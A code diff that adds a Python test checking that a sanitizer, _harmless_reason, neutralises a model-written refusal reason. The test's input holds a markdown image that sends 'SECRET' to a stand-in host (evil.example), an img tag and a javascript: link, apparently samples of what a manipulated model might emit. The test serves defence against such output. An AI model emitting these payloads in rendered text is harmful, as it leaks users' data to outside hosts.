@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import threading
 import time
 from collections.abc import AsyncIterator, Callable
@@ -19,6 +20,7 @@ from foundation.settings import ResilienceSettings
 from models.resilience import resilient
 from orchestration.answering import answer, resume
 from orchestration.contract import Answer, AnswerRequest, Decision, Plan
+from orchestration.steps import _harmless_reason
 from tests.doubles.orchestration import LEAD, NORTH, World
 from tests.doubles.provider import Behaviour, FaultyProvider, ok, status
 
@@ -181,3 +183,15 @@ async def test_a_tool_that_does_not_exist_is_refused_by_the_executor(ask: Ask) -
 async def test_a_person_and_a_refusal_end_the_run_at_once(ask: Ask, decision: str, told: str) -> None:
     given, _ = await ask(plan(decision=decision))
     assert (given.status, planned(given).steps) == (told, ())
+
+
+def test_the_reason_of_a_refusal_is_a_line_of_text_and_leads_nowhere() -> None:
+    """A model may have been made to write anything there."""
+    reason = (
+        "Sorry.\n\n![x](https:/evil.example/leak?d=SECRET) <img src=//evil.example/x> [a](javascript:alert(1)) "
+        + "a " * 500
+    )
+    shown = _harmless_reason(Plan(route="refuse", reason=reason, made_by="model"))
+    assert shown.startswith("Sorry.")
+    assert not re.search(r"evil|SECRET|<img|\n|(?<!\\)\]\(|alert", shown)
+    assert len(shown) < 330
